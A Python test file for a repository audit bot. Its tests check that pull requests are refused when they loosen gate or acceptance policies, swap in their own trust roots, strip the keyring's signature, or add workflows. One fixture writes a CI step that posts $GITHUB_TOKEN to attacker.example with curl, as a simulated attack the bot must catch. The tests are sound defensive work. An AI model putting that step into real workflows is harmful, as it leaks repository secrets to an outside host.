"""The bot judges the whole pull request: a valid submission cannot carry in a change to what the
repository is judged by (repository check 5), and a maintainers' pull request without
submissions is audited as such (every path listed for review, its policies valid: check 6).

Real git clones of the shared origin; ``ckit audit --changed-since origin/main`` as the bot runs
it, with the base branch's choices.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from repository_helpers import TEST_AUTHOR, SharedRepo, ckit, git

from kit.cli import main
from kit.errors import ExitCode
from kit.repository.pull_request import MAINTAINERS_VERDICT, SCOPE_CHECK
from kit.signing.keyring import MANIFEST_SIGNATURE_NAME

SINCE = ["--changed-since", "origin/main"]
REFUSAL = "needs a maintainers' pull request without submissions"


def _pull_request(shared: SharedRepo, work: Path, branch: str | None) -> Path:
    """A clone with ``branch`` (a submission's) checked out, or main for a maintainers' one."""
    git(["clone", "--quiet", shared.origin.as_uri(), str(work)], work.parent)
    if branch is not None:
        git(["checkout", "--quiet", branch], work)
    return work


def _commit(work: Path, message: str) -> None:
    git(["add", "-A", "."], work)
    git([*TEST_AUTHOR, "commit", "--quiet", "-m", message], work)


def _audit(shared: SharedRepo, work: Path, capsys: pytest.CaptureFixture[str]
           ) -> tuple[int, list[str]]:
    capsys.readouterr()
    code = main(["audit", str(work), *SINCE, *shared.audit_args])
    return code, capsys.readouterr().out.splitlines()


def _scope_failures(lines: list[str]) -> list[str]:
    return [line for line in lines if line.startswith(f"  {SCOPE_CHECK}. ✗ ")]


def _refused_for(shared: SharedRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                 paths: dict[str, str]) -> list[str]:
    """The simnpu submission's pull request, with ``paths`` written beside it: refused."""
    work = _pull_request(shared, tmp_path / "work", shared.branches["simnpu"])
    for name, text in paths.items():
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_text(text, encoding="utf-8")
    _commit(work, "Submit simnpu, and a little more")
    code, lines = _audit(shared, work, capsys)
    assert code == ExitCode.VERIFICATION_FAILED, lines
    assert lines[-1].startswith("FAILED: 1 submission(s) audited, 0 failed"), lines
    return _scope_failures(lines)


def _line(path: str) -> str:
    return (f"  {SCOPE_CHECK}. ✗ the pull request changes nothing outside submissions/: changes "
            f"what the repository is judged by: {path}; {REFUSAL}")


def test_pr_that_loosens_gate_policy_is_refused(
    shared: SharedRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    failures = _refused_for(shared, tmp_path, capsys,
                            {"ckit/gate.yaml": "min_grade: non-conformant\n"})
    assert failures == [_line("ckit/gate.yaml")]


def test_pr_that_loosens_acceptance_policy_is_refused(
    shared: SharedRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    failures = _refused_for(shared, tmp_path, capsys, {
        "ckit/acceptance.yaml": "released_kit: false\nmax_age_days: 100000\n"})
    assert failures == [_line("ckit/acceptance.yaml")]


def test_pr_whose_workflow_sends_the_token_out_is_refused(
    shared: SharedRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    step = "    - run: curl -d \"$GITHUB_TOKEN\" https://attacker.example\n"
    failures = _refused_for(shared, tmp_path, capsys, {
        ".github/workflows/ckit.yml": f"on: pull_request_target\njobs:\n  x:\n    steps:\n{step}",
        ".github/workflows/extra.yml": "on: pull_request_target\n"})
    assert failures == [_line(".github/workflows/ckit.yml"), _line(".github/workflows/extra.yml")]


def test_pr_that_replaces_the_roots_with_its_own_is_refused(
    shared: SharedRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mine = tmp_path / "mine"
    made = ckit(["keys", "root-generate", "--out", str(mine / "root.pem"),
                 "--public-dir", str(mine / "roots")], shared.env)
    assert made.returncode == 0, made.stderr
    (public,) = (mine / "roots").glob("*.pub.pem")
    failures = _refused_for(shared, tmp_path, capsys,
                            {f"ckit/roots/{public.name}": public.read_text(encoding="utf-8")})
    assert failures == [_line(f"ckit/roots/{public.name}")]


def test_pr_that_edits_the_keyring_beside_a_submission_is_refused(
    shared: SharedRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    work = _pull_request(shared, tmp_path / "work", shared.branches["simnpu"])
    (work / "keyring" / MANIFEST_SIGNATURE_NAME).unlink()
    (work / "README.md").write_text("Ours now.\n", encoding="utf-8")
    _commit(work, "Submit simnpu, drop the keyring's signature")
    code, lines = _audit(shared, work, capsys)
    assert code == ExitCode.VERIFICATION_FAILED
    assert _scope_failures(lines) == [_line("README.md"),
                                      _line(f"keyring/{MANIFEST_SIGNATURE_NAME}")]


def test_submission_alone_passes_the_scope_check(
    shared: SharedRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    code, lines = _audit(shared, shared.checkout, capsys)
    assert code == ExitCode.OK, lines
    assert (f"  {SCOPE_CHECK}. ✓ the pull request changes nothing outside submissions/"
            in lines)
    assert lines[-1].startswith("PASSED: 1 submission(s) audited, 0 failed")


def test_maintainers_pr_is_listed_for_review_never_passed(
    shared: SharedRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    work = _pull_request(shared, tmp_path / "work", None)
    (work / ".github" / "workflows").mkdir(parents=True)
    (work / ".github" / "workflows" / "ckit.yml").write_text("on: push\n", encoding="utf-8")
    (work / "ckit").mkdir()
    shutil.copy(shared.base / "policy.yaml", work / "ckit" / "acceptance.yaml")
    _commit(work, "Maintainers: a workflow and the acceptance policy")
    code, lines = _audit(shared, work, capsys)
    assert code == ExitCode.OK, lines
    listed = [line for line in lines if line.startswith(f"  {SCOPE_CHECK}. ✓ ")]
    assert listed == [
        f"  {SCOPE_CHECK}. ✓ a maintainers' pull request (no submissions): for review: changes "
        f"{path}" for path in (".github/workflows/ckit.yml", "ckit/acceptance.yaml")]
    assert "  6. ✓ the ckit/ policy files it changes are valid" in lines
    assert lines[-1] == f"{MAINTAINERS_VERDICT}, 2 path(s) listed for review; repository " \
                        "checks passed"


def test_maintainers_pr_with_a_broken_gate_policy_is_refused(
    shared: SharedRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    work = _pull_request(shared, tmp_path / "work", None)
    (work / "ckit").mkdir()
    (work / "ckit" / "gate.yaml").write_text("min_grade: 12\nno_such_key: 1\n",
                                              encoding="utf-8")
    _commit(work, "Maintainers: a gate policy")
    code, lines = _audit(shared, work, capsys)
    assert code == ExitCode.VERIFICATION_FAILED
    (failure,) = [line for line in lines if line.startswith("  6. ✗ ")]
    assert failure.startswith("  6. ✗ the ckit/ policy files it changes are valid: "
                              "ckit/gate.yaml: ")
    assert lines[-1].startswith("FAILED: 0 submission(s) audited")


def test_maintainers_keyring_signed_by_another_root_is_refused(
    shared: SharedRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A keyring change without submissions must still be signed by the base branch's roots."""
    work = _pull_request(shared, tmp_path / "work", None)
    other = tmp_path / "other-root.pem"
    made = ckit(["keys", "root-generate", "--out", str(other),
                 "--public-dir", str(tmp_path / "other-roots")], shared.env)
    assert made.returncode == 0, made.stderr
    resigned = ckit(["keys", "sign-keyring", "--keyring", str(work / "keyring"),
                     "--root-key", str(other)], shared.env)
    assert resigned.returncode == 0, resigned.stderr
    _commit(work, "Maintainers: the keyring, signed by a root of ours")
    code, lines = _audit(shared, work, capsys)
    assert code == ExitCode.VERIFICATION_FAILED
    assert [line for line in lines if line.startswith("  3. ✗ the keyring is signed by the "
                                                      "trust roots")], lines
    assert lines[-1].startswith("FAILED: 0 submission(s) audited")
